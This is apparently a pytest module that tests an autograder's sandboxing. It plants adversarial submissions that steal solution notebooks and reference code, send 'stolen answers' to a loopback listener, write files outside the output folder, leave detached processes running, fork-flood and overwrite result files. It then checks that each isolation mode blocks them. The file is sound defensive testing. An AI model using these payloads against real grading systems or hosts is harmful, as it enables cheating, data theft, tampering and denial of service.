"""The a1 adversarial catalog, graded by the real CLI on each kind of host the grader meets.

One class (two honest students, the empty notebook, the notebook attacks of
the a1 catalog's ``ATTACKS`` and the attacks below, which act inside the graded function
when the grader calls it) is graded by ``python -m autograder grade`` three times: on this
machine as root (namespaces; the in-function attacks only, since the a1 catalog's audit
grades the notebook attacks on this host), under Docker's default capabilities (no namespaces: Landlock,
seccomp and the uid barrier), and as an unprivileged user (Landlock and seccomp). Each run
must give the honest students full marks, give no attack more than the empty notebook, and
leave no breach: no file written outside the jobs' out/, no connection to a loopback
listener, no process left running.
"""

import contextlib
import csv
import json
import os
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time

import pytest

from autograder.assignments.a1_attention.catalog import ATTACKS
from autograder.catalog import results, src, write_submission
from autograder.sandbox import uids
from tests.autograder import hosts

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux"),
]
A1, SDPA = "a1_attention", "scaled_dot_product_attention"
HONEST = ("aaa_honest", "zzz_honest")
EMPTY = "empty"
MARKER = "agx" + secrets.token_hex(4)  # in every file and process name an attack makes
TIME_LIMIT = "12"


def in_function_attacks(port, paths):
    """Attacks in the body of scaled_dot_product_attention: they run when the grader calls it."""
    steal = f"""
        import glob, json
        def _solution_code():
            code = ""
            for path in {paths["notebooks"]!r}:
                for nb_path in glob.glob(path):
                    try:
                        cells = json.load(open(nb_path))["cells"]
                    except (OSError, ValueError):
                        continue
                    for cell in cells:
                        meta = cell.get("metadata", {{}}).get("nbgrader", {{}})
                        if cell["cell_type"] == "code" and meta.get("solution") and not meta.get("grade"):
                            code += "".join(cell["source"]) + "\\n"
            return code
        def scaled_dot_product_attention(query, key, value, mask=None):
            space = {{}}
            exec("import keras\\nimport numpy as np\\nfrom keras import ops\\n" + _solution_code(), space)
            return space["scaled_dot_product_attention"](query, key, value, mask=mask)
    """
    reference = f"""
        def scaled_dot_product_attention(query, key, value, mask=None):
            space = {{}}
            for root in {paths["repos"]!r}:
                for name in ("masks.py", "attention.py"):
                    try:
                        code = open(root + "/course_lib/layers/" + name).read()
                    except OSError:
                        continue
                    exec(code.replace("from .", "# from ."), space)
            return space["scaled_dot_product_attention"](query, key, value, mask=mask)
    """
    loopback = f"""
        import socket
        def scaled_dot_product_attention(query, key, value, mask=None):
            with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
                s.sendall(b"{MARKER} stolen answers")
            return query, query
    """
    writes = f"""
        import os
        def scaled_dot_product_attention(query, key, value, mask=None):
            for folder in {paths["writable"]!r} + [os.path.expanduser("~"), os.getcwd()]:
                try:
                    with open(os.path.join(folder, "{MARKER}-written"), "w") as f:
                        f.write("x")
                except OSError:
                    pass
            return query, query
    """
    survivor = f"""
        import ctypes, os, time
        def scaled_dot_product_attention(query, key, value, mask=None):
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    ctypes.CDLL(None).prctl(15, b"{MARKER}", 0, 0, 0)
                    try:
                        os.execv("/bin/sleep", ["sleep", "600", "{MARKER}"])
                    except OSError:
                        while True:
                            time.sleep(1)
                os._exit(0)
            return query, query
    """
    flood = """
        import os, time
        def scaled_dot_product_attention(query, key, value, mask=None):
            end = time.monotonic() + 3
            while time.monotonic() < end:
                try:
                    if os.fork() == 0:
                        time.sleep(600)
                        os._exit(0)
                except OSError:
                    time.sleep(0.01)
            return query, query
    """
    tamper = f"""
        import atexit, glob, os
        def _rewrite():
            for pattern in {paths["results"]!r}:
                for path in glob.glob(pattern, recursive=True):
                    try:
                        with open(path, "w") as f:
                            f.write("{{}}")
                    except OSError:
                        pass
        def scaled_dot_product_attention(query, key, value, mask=None):
            atexit.register(_rewrite)
            _rewrite()
            return query, query
    """
    return {
        "fn_exec_solution": src(steal),
        "fn_exec_reference": src(reference),
        "fn_loopback": src(loopback),
        "fn_write_tmp_home": src(writes),
        "fn_survivor": src(survivor),
        "fn_fork_flood": src(flood),
        "fn_rewrite_results": src(tamper),
    }


class Listener:
    """A loopback TCP listener that counts the connections it accepts."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.received = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(1)
                try:
                    self.received.append(conn.recv(1024))
                except OSError:
                    self.received.append(b"")


@pytest.fixture(scope="module")
def setting():
    """The class and what every host needs, under a directory any uid may enter."""
    base = hosts.traversable_dir("isolation-hosts-")
    listener = Listener()
    python, repo_copy = hosts.readable_tree(base)
    home = base / "home-nobody"
    home.mkdir()
    hosts.give_to_nobody(home)
    paths = {
        "notebooks": [f"{r}/solutions/{A1}/*.ipynb" for r in (hosts.REPO, repo_copy)]
        + [f"{base}/{d}/*honest/{A1}/*.ipynb" for d in ("submitted", "submitted-in-function")],
        "repos": [str(hosts.REPO), str(repo_copy)],
        "writable": [
            "/tmp",
            "/var/tmp",
            "/dev/shm",
            "/root",
            str(base),
            str(home),
            str(hosts.REPO),
            str(base / "out-namespaces"),
        ],  # fmt: skip
        "results": [f"{base}/**/*.json", f"{base}/**/*.npz", "/tmp/**/*.npz", "/tmp/**/*.json"],
    }
    subs = base / "submitted"
    for name in HONEST:
        write_submission(subs, name, A1)
    write_submission(subs, EMPTY, A1, kind="released")
    in_function = in_function_attacks(listener.port, paths)
    attacks = {**ATTACKS, **in_function}
    for name, cell in attacks.items():
        write_submission(subs, name, A1, {SDPA: cell}, kind="released")
    # As root with namespaces the notebook attacks are already graded by the a1 catalog's
    # audit (tests/autograder/test_catalog_a1.py) on this same host; here that host gets the
    # in-function attacks only, beside the honest students and the empty notebook.
    short = base / "submitted-in-function"
    for name in (*HONEST, EMPTY, *in_function):
        shutil.copytree(subs / name, short / name)
    yield {"base": base, "subs": subs, "python": python, "repo": repo_copy, "home": home,
           "listener": listener, "attacks": attacks, "short": short,
           "graded_attacks": {"namespaces": sorted(in_function)}}  # fmt: skip
    listener.sock.close()
    _kill_leftovers(str(base))
    shutil.rmtree(base, ignore_errors=True)


def _kill_leftovers(base):
    """Kill what the nobody host's jobs left running from `base`'s interpreter.

    Without a pid namespace or a per-job uid the grader cannot reach a job's escaped
    descendants (one such tree kept forking after a run: see the note on the issue);
    this module's leftovers must not slow the rest of the suite. Rounds, as it may fork.
    """
    for _ in range(100):
        pids = []
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    if base.encode() in f.read():
                        pids.append(int(pid))
            except OSError:
                continue
        if not pids:
            return
        for pid in pids:
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
        time.sleep(0.05)


def _breaches(base, listener, before):
    files = []
    for folder in ["/tmp", "/var/tmp", "/dev/shm", "/root", str(hosts.REPO)]:
        files += [os.path.join(folder, n) for n in os.listdir(folder) if MARKER in n]
    for root, _dirs, names in os.walk(base):
        files += [os.path.join(root, n) for n in names if MARKER in n]
    time.sleep(0.5)
    processes = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f, open(f"/proc/{pid}/comm", "rb") as g:
                if MARKER.encode() in f.read() + g.read():
                    processes.append(pid)
        except OSError:
            continue
    return {"files": files, "connections": listener.received[before:], "processes": processes}


@pytest.fixture(scope="module", params=sorted(hosts.WRAPPERS))
def graded(request, setting):
    """One `python -m autograder grade` run of the class on one kind of host."""
    mode = request.param
    out = setting["base"] / f"out-{mode}"
    env = {"PATH": "/usr/bin:/bin", "LANG": "C.UTF-8", "TF_CPP_MIN_LOG_LEVEL": "3"}
    if mode == "nobody":
        python, cwd = setting["python"], setting["repo"]
        out.mkdir()
        hosts.give_to_nobody(out)
        env.update(HOME=str(setting["home"]), PYTHONPATH=str(cwd))
        env["LD_LIBRARY_PATH"] = uids.library_path(python) or ""
    else:
        python, cwd = sys.executable, hosts.REPO
        env.update(HOME=os.environ.get("HOME", "/root"))
    subs = setting["short"] if mode in setting["graded_attacks"] else setting["subs"]
    command = [*hosts.WRAPPERS[mode], python, "-m", "autograder", "grade", A1,
               str(subs), "--out", str(out), "--jobs", "2", "--quiet",
               "--time-limit", TIME_LIMIT]  # fmt: skip
    before = len(setting["listener"].received)
    start = time.monotonic()
    done = subprocess.run(command, cwd=cwd, env=env, capture_output=True, text=True, timeout=1800)
    wall = time.monotonic() - start
    assert done.returncode == 0, done.stderr[-3000:]
    with open(out / "grades.csv") as f:
        rows = {r["student"]: r for r in csv.DictReader(f)}
    print(f"\n{mode}: {len(rows)} submissions in {wall:.1f} s; {done.stderr.strip()[:300]}")
    breaches = _breaches(setting["base"], setting["listener"], before)
    return {"mode": mode, "out": out, "rows": rows, "breaches": breaches, "stderr": done.stderr}


def test_honest_students_get_full_marks(graded):
    """Are both honest students graded in full next to every attack, on this host?"""
    for name in HONEST:
        row = graded["rows"][name]
        assert float(row["score"]) == float(row["max_score"]) > 0, (name, row)
        assert results(graded["out"], name)["score"] == float(row["max_score"])


def test_no_attack_scores_above_the_empty_notebook(graded, setting):
    """Does every attack (notebook or in-function) score at most the released notebook?"""
    empty = float(graded["rows"][EMPTY]["score"])
    attacks = setting["graded_attacks"].get(graded["mode"], setting["attacks"])
    assert set(attacks) <= set(graded["rows"])
    above = {n: graded["rows"][n]["score"] for n in attacks
             if float(graded["rows"][n]["score"]) > empty}  # fmt: skip
    assert above == {}, f"attacks above the empty notebook ({empty}) on {graded['mode']}"


def test_no_breach(graded):
    """No file with the attacks' marker outside the jobs, no loopback connection, no survivor."""
    assert graded["breaches"] == {"files": [], "connections": [], "processes": []}


def test_grades_csv_names_the_isolation(graded):
    """Does each graded row, and results.json, name the isolation this host gave?"""
    expected = hosts.SUMMARIES[graded["mode"]]
    for name in (*HONEST, "fn_loopback"):
        assert graded["rows"][name]["isolation"] == expected
        extra = results(graded["out"], name)["extra_data"]
        assert extra["isolation"] == expected and extra["isolation_layers"]
    if graded["mode"] != "namespaces":
        assert "not available here: namespaces" in graded["stderr"]


def test_attacks_in_the_function_ran(graded):
    """Control: the in-function attacks were called (their unit ran and failed, not skipped)."""
    res = results(graded["out"], "fn_exec_solution")
    text = json.dumps(res)
    assert "scaled_dot_product_attention" in text
    assert float(graded["rows"]["fn_exec_solution"]["score"]) < float(
        graded["rows"][HONEST[0]]["score"]
    )


def test_control_an_unisolated_run_is_breached(setting, tmp_path):
    """Control (the checks above can fail): with --allow-unisolated in a container, do the
    in-function attacks steal the solution, write outside out/ and reach the listener?"""
    subs = hosts.traversable_dir("isolation-control-")
    try:
        write_submission(subs, EMPTY, A1, kind="released")
        for name in ("fn_exec_solution", "fn_exec_reference", "fn_write_tmp_home", "fn_loopback"):
            write_submission(subs, name, A1, {SDPA: setting["attacks"][name]}, kind="released")
        out = subs / "out"
        before = len(setting["listener"].received)
        command = [*hosts.DOCKER_CAPS, sys.executable, "-m", "autograder", "grade", A1,
                   str(subs), "--out", str(out), "--quiet", "--time-limit", TIME_LIMIT,
                   "--isolation", "none", "--allow-unisolated"]  # fmt: skip
        done = subprocess.run(command, cwd=hosts.REPO, capture_output=True, text=True, timeout=600)
        assert done.returncode == 0, done.stderr[-2000:]
        assert "grading UNISOLATED" in done.stderr
        with open(out / "grades.csv") as f:
            rows = {r["student"]: r for r in csv.DictReader(f)}
        assert rows["fn_exec_solution"]["isolation"] == "unisolated"
        for name in ("fn_exec_solution", "fn_exec_reference"):
            assert float(rows[name]["score"]) > float(rows[EMPTY]["score"]), name
        breaches = _breaches(subs, setting["listener"], before)
        assert breaches["files"] and breaches["connections"]
    finally:
        for path in _breaches(subs, setting["listener"], 0)["files"]:
            os.remove(path)
        shutil.rmtree(subs, ignore_errors=True)
